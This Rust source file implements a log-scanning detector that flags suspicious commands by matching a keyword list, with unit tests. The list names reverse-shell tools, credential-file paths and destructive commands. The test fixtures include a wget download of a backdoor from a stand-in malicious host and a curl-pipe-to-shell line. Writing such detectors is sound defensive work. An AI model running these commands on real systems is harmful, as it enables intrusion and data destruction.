//! Suspicious-command detector.
//!
//! Stateless scan for command-execution indicators: remote fetch tools,
//! reverse shells, sensitive paths, destructive commands, obfuscation
//! primitives, and extortion keywords. First match wins.

use super::Detector;
use crate::models::{Alert, AlertSeverity, AlertType, NormalizedEvent};
use crate::utils::truncate_message;
use chrono::{DateTime, Utc};
use serde_json::Map;

const SUSPICIOUS_COMMANDS: [&str; 18] = [
    "wget",
    "curl",
    "nc -e",
    "bash -i",
    "/etc/passwd",
    "/etc/shadow",
    "chmod 777",
    "rm -rf",
    "base64 -d",
    "eval(",
    "powershell -e",
    "cmd.exe",
    ".onion",
    "tor",
    "cryptocurrency",
    "bitcoin",
    "ransomware",
    "encrypt",
];

#[derive(Default)]
pub struct SuspiciousCommandDetector;

impl SuspiciousCommandDetector {
    pub fn new() -> Self {
        Self
    }
}

impl Detector for SuspiciousCommandDetector {
    fn name(&self) -> &'static str {
        "suspicious_command"
    }

    fn inspect(&self, event: &NormalizedEvent, now: DateTime<Utc>) -> Option<Alert> {
        let message = event.message.to_lowercase();
        let command = SUSPICIOUS_COMMANDS.iter().find(|c| message.contains(*c))?;

        let mut details = Map::new();
        details.insert("command".to_string(), (*command).into());
        details.insert(
            "full_message".to_string(),
            truncate_message(&event.message, 200).into(),
        );

        Some(Alert {
            alert_type: AlertType::SuspiciousCommand,
            severity: AlertSeverity::High,
            description: format!("Suspicious command detected: {command}"),
            source_ip: event.ip_address.clone(),
            details,
            timestamp: now,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::{base_time, event};

    #[test]
    fn remote_fetch_tool_fires() {
        let detector = SuspiciousCommandDetector::new();
        let t0 = base_time();
        let ev = event(
            "Command executed: wget http://malicious.example/backdoor.sh",
            Some("10.0.0.5"),
            t0,
        );
        let alert = detector.inspect(&ev, t0).unwrap();
        assert_eq!(alert.alert_type, AlertType::SuspiciousCommand);
        assert_eq!(alert.severity, AlertSeverity::High);
        assert_eq!(alert.details["command"], "wget");
        assert_eq!(alert.source_ip.as_deref(), Some("10.0.0.5"));
    }

    #[test]
    fn first_indicator_in_list_wins() {
        let detector = SuspiciousCommandDetector::new();
        let t0 = base_time();
        // Contains both curl and rm -rf; curl is earlier in the list.
        let ev = event("curl http://x | sh && rm -rf /tmp/x", None, t0);
        let alert = detector.inspect(&ev, t0).unwrap();
        assert_eq!(alert.details["command"], "curl");
    }

    #[test]
    fn sensitive_path_access_fires_without_ip() {
        let detector = SuspiciousCommandDetector::new();
        let t0 = base_time();
        let ev = event("Suspicious file access: /etc/passwd", None, t0);
        let alert = detector.inspect(&ev, t0).unwrap();
        assert_eq!(alert.details["command"], "/etc/passwd");
        assert!(alert.source_ip.is_none());
    }

    #[test]
    fn clean_messages_pass() {
        let detector = SuspiciousCommandDetector::new();
        let t0 = base_time();
        let ev = event("backup completed successfully", None, t0);
        assert!(detector.inspect(&ev, t0).is_none());
    }
}
